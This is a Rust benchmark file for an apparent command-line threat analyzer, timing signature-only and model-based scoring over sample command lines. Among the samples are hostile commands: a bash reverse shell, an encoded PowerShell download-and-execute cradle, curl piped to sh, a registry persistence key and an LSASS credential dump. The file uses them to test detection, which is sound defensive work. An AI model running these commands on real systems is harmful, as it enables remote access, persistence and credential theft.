//! Static analysis speed: command lines per second on one core, with and without a model.

use std::sync::Arc;

use warden_payload::features::FeatureSet;
use warden_payload::model::{PayloadModel, TrainingSummary};
use warden_payload::{Analyzer, VerdictConfig};

fn main() {
    divan::main();
}

const SAMPLES: &[&str] = &[
    "ls -la /var/log",
    "git commit -am 'fix the parser'",
    "find . -name '*.rs' -exec grep -n TODO {} +",
    "curl -fsSL https://get.example.com | sh",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgAxAC8AYQAnACkA",
    "Get-ChildItem -Path C:\\Users -Recurse -Filter *.docx | Select-Object FullName",
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe /f",
    "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
    "tar -czf /tmp/backup.tgz /home/user/documents",
];

fn model() -> Arc<PayloadModel> {
    let bits = warden_payload::model::DEFAULT_BITS;
    Arc::new(
        PayloadModel {
            features: FeatureSet::default(),
            weights: (0..1u32 << bits)
                .map(|i| ((i % 97) as f32 - 48.0) / 100.0)
                .collect(),
            idf: (0..1u32 << bits)
                .map(|i| 1.0 + (i % 7) as f32 / 3.0)
                .collect(),
            bias: 0.0,
            platt_a: 1.0,
            platt_b: 0.0,
            summary: TrainingSummary::default(),
            pairs: Vec::new(),
            techniques: None,
            patterns: None,
            combiner: None,
        }
        .packed(),
    )
}

#[divan::bench]
fn signatures_only(b: divan::Bencher) {
    let a = Analyzer::new(None, VerdictConfig::default());
    b.counter(divan::counter::ItemsCount::new(SAMPLES.len()))
        .bench(|| {
            SAMPLES
                .iter()
                .map(|t| a.analyze(divan::black_box(t), None).score)
                .sum::<f32>()
        });
}

#[divan::bench]
fn with_model(b: divan::Bencher) {
    let a = Analyzer::new(Some(model()), VerdictConfig::default());
    b.counter(divan::counter::ItemsCount::new(SAMPLES.len()))
        .bench(|| {
            SAMPLES
                .iter()
                .map(|t| a.analyze(divan::black_box(t), None).score)
                .sum::<f32>()
        });
}
